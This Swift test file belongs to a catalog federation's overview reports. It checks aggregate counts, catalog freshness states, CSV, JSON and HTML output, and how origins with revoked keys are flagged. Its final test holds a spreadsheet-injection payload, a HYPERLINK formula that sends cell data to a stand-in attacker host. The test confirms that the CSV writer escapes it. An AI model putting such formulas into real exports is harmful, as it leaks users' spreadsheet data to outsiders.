import CatalogCore
import CatalogImport
import CatalogNode
import CatalogSearch
import CatalogTestSupport
import CatalogTrust
import CatalogWire
import Foundation
import Testing

@testable import CatalogReports

@Suite("The overview of a national node", .serialized, .timeLimit(.minutes(10)))
struct OverviewTests {
    let now = Timestamp.parse("2026-12-01T00:00:00Z")!

    /// The example federation's federated entries, counted the plain way, in memory.
    func exampleEntries() throws -> [Entry] {
        try ExampleFederation.clusters.flatMap { try CatalogImporter.read(file: Fixtures.federationCatalog($0)) }.filter
        { !$0.isLocal }
    }

    @Test("the SQL aggregates equal a plain count over the catalog files")
    func aggregates() async throws {
        let test = try await ExampleFederation.nationalNode()
        defer { test.remove() }
        let report = try await OverviewBuilder.build(node: test.node, now: now)
        let entries = try exampleEntries()
        #expect(report.entries == entries.count)
        #expect(report.trainings == entries.filter(\.isTraining).count)
        for region in ["DE-BW", "DE-BY", "DE"] {
            let expected = entries.filter { entry in
                Set(entry.regions + entry.sessions.compactMap { $0.location?.region }).contains(region)
            }.count
            #expect(report.byRegion.first { $0.key == region }?.count ?? 0 == expected, "\(region)")
        }
        #expect(
            report.byTopic.first { $0.key == "medtech" }?.count
                == entries.filter { $0.topics.contains("medtech") }.count)
        #expect(
            report.byKind.first { $0.key == "matchmaking" }?.count == entries.filter { $0.kind == "matchmaking" }.count)
        #expect(report.byOrigin.map(\.count).reduce(0, +) == entries.count)
        #expect(report.byMonth.count == 12 && report.byMonth.first?.key == "2026-12")
        let march = entries.filter { $0.sessions.contains { !$0.isCancelled && $0.start.text.hasPrefix("2027-03") } }
            .count
        #expect(report.byMonth.first { $0.key == "2027-03" }?.count == march)
        let cell = report.regionTopic.first { $0.region == "DE-BY" && $0.topic == "photonics" }?.count ?? 0
        #expect(
            cell
                == entries.filter {
                    $0.topics.contains("photonics")
                        && ($0.regions + $0.sessions.compactMap { $0.location?.region }).contains("DE-BY")
                }.count)
        #expect(
            report.freshness.filter { $0.status == "ok" }.count == 6,
            "\(report.freshness.map { "\($0.origin) \($0.status) \($0.headIssued ?? "nil")" })")
    }

    @Test("past trainings are left out unless asked for")
    func pastTrainings() async throws {
        let test = try await ExampleFederation.nationalNode()
        defer { test.remove() }
        let later = Timestamp.parse("2027-07-01T00:00:00Z")!
        let current = try await OverviewBuilder.build(node: test.node, now: later)
        let all = try await OverviewBuilder.build(node: test.node, includePast: true, now: later)
        #expect(current.trainings < all.trainings)
        #expect(all.entries == (try exampleEntries()).count)
    }

    @Test("stale, incomplete and absent catalogs stand out")
    func freshness() async throws {
        let test = try await ExampleFederation.nationalNode()
        defer { test.remove() }
        let delete = try Shell.run(
            "sqlite3",
            [
                test.node.directory.database.path,
                "DELETE FROM entry WHERE origin = 'automotive-bw' AND id = 'tisax-expertentisch';",
            ])
        #expect(delete.status == 0)
        let peer = try await Node.open(test.node.directory)
        _ = try await peer.endorse(
            subject: "hydrogen-nord", key: NodeSigningKey(origin: "hydrogen-nord").publicKey, region: "DE-HH",
            level: .cluster)
        let late = now.addingTimeInterval(40 * 86_400)
        let report = try await OverviewBuilder.build(node: test.node, now: late)
        let byOrigin = Dictionary(uniqueKeysWithValues: report.freshness.map { ($0.origin, $0) })
        #expect(byOrigin["automotive-bw"]?.status == "stale")  // its head expired after 30 days, and one entry is gone
        #expect(byOrigin["automotive-bw"]?.missing == 1)
        #expect(byOrigin["hydrogen-nord"]?.status == "absent")
        let fresh = try await OverviewBuilder.build(node: test.node, now: now)
        #expect(fresh.freshness.first { $0.origin == "automotive-bw" }?.status == "incomplete")
        try peer.store.close()
    }

    @Test("terminal tables fit 100 columns; CSV and JSON carry the same numbers")
    func formats() async throws {
        let test = try await ExampleFederation.nationalNode()
        defer { test.remove() }
        let report = try await OverviewBuilder.build(node: test.node, now: now)
        let text = OverviewText.render(report)
        #expect(text.split(separator: "\n").allSatisfy { $0.count <= 100 }, "a line is wider than 100 columns")
        #expect(text.contains("Entries by region") && text.contains("Catalogs: freshness"))

        let files = OverviewCSV.files(report)
        #expect(
            files.map(\.name).sorted() == [
                "freshness.csv", "kind.csv", "level.csv", "month.csv", "origin.csv", "region-topic.csv", "region.csv",
                "topic.csv",
            ])
        let regionCSV = try #require(files.first { $0.name == "region.csv" }?.text)
        let lines = regionCSV.split(separator: "\r\n").map { $0.split(separator: ",").map(String.init) }
        #expect(lines.first == ["region", "label", "count"])
        for row in report.byRegion {
            #expect(lines.contains([row.key, row.label, String(row.count)]))
        }
        let json = try JSONDecoder().decode(OverviewReport.self, from: try CatalogJSON.encode(report))
        #expect(json.byTopic == report.byTopic && json.entries == report.entries)
    }

    @Test("the HTML page is one self-contained document with charts, tables and the time it was made")
    func html() async throws {
        let test = try await ExampleFederation.nationalNode()
        defer { test.remove() }
        let html = OverviewHTML.render(try await OverviewBuilder.build(node: test.node, now: now))
        #expect(html.hasPrefix("<!DOCTYPE html>"))
        #expect(html.components(separatedBy: "<svg").count - 1 == 6)
        #expect(html.contains("class=\"bar\"") && html.contains("Generated 2026-12-01T00:00:00Z"))
        #expect(html.contains("<section id=\"freshness\">") && html.contains("<section id=\"region-topic\">"))
        for external in ["<script", "<link", "src=", "@import", "url("] {
            #expect(!html.contains(external), "\(external)")
        }
    }

    @Test("an origin whose envelopes no longer verify shows as such in the overview, search and verify alike")
    func unverifiedAgrees() async throws {
        let test = try await ExampleFederation.nationalNode()
        defer { test.remove() }
        // The national node withdraws its endorsement of automotive-bw's key and vouches for another.
        let held = try #require(
            try await test.node.store.endorsements().first { $0.subject == "automotive-bw" }
                .flatMap { try SignedEndorsement(bytes: $0.envelope).subjectKey })
        _ = try await test.node.revokeEndorsement(subject: "automotive-bw", key: held)
        _ = try await test.node.endorse(
            subject: "automotive-bw", key: NodeSigningKey(origin: "automotive-bw").publicKey, region: "DE-BW",
            level: .cluster)
        let entries = try await test.node.store.origins().first { $0.name == "automotive-bw" }?.live ?? 0
        #expect(entries > 0)

        let report = try await OverviewBuilder.build(node: test.node, now: now)
        let row = try #require(report.freshness.first { $0.origin == "automotive-bw" })
        #expect(row.status == "unverified" && row.unverified == entries, "\(row.status) \(row.unverified)")
        #expect(report.freshness.filter { $0.status == "ok" }.count == 5)
        let hits = try await Searcher(node: test.node).search(SearchQuery(origin: "automotive-bw", includePast: true))
            .hits
        #expect(hits.count == entries && hits.allSatisfy { !$0.verified })
        let trust = try await NodeTrust.current(test.node)
        let verified = try await CatalogVerifier(store: test.node.store, trustedKeys: { trust.keys(for: $0, seq: $1) })
            .verify()
        #expect(verified.failures.filter { $0.origin == "automotive-bw" }.count == entries + 1)  // and its head
        #expect(verified.failures.allSatisfy { $0.origin == "automotive-bw" })
    }

    @Test("a display name that a spreadsheet would take for a formula is written as text")
    func formulaInjection() async throws {
        let hostile = #"=HYPERLINK("https://evil.example/?x="&A2,"Evil")"#
        #expect(CSVDocument().cell(hostile) == "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A2,\"\"Evil\"\")\"")
        for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            #expect(CSVDocument().cell(lead).hasPrefix("'") || CSVDocument().cell(lead).hasPrefix("\"'"))
        }
        #expect(CSVDocument().cell("MedicalMountains") == "MedicalMountains")
        #expect(CSVDocument().cell("a\r\nb") == "\"a\r\nb\"")
    }
}
